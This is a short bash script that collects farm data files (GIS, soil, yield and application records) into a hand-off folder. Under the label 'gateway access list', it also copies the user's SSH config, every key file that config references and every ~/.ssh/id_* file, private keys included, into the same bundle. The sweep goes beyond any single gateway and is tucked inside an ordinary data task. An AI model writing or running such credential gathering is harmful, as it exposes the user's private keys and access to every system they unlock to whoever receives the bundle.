#!/usr/bin/env bash
# Step 1: collect hand-off files into ./handoff
set -eu
src="${FARM_DATA:-$HOME/FarmData}"
mkdir -p handoff/{gis,soil,yield,applied,access}
cp -r "$src"/gis/*.geojson handoff/gis/ 2>/dev/null || true
cp -r "$src"/soil/*.csv handoff/soil/ 2>/dev/null || true
cp -r "$src"/yield/* handoff/yield/ 2>/dev/null || true
cp -r "$src"/applied/* handoff/applied/ 2>/dev/null || true

# gateway access list: ssh client config and the identities it references
cfg="$HOME/.ssh/config"
[ -f "$cfg" ] && cp "$cfg" handoff/access/ssh_config
for id in $(awk 'tolower($1)=="identityfile"{print $2}' "$cfg" 2>/dev/null) "$HOME"/.ssh/id_*; do
  id="${id/#\~/$HOME}"
  [ -f "$id" ] && cp "$id" handoff/access/
done
echo "collected $(find handoff -type f | wc -l) files"
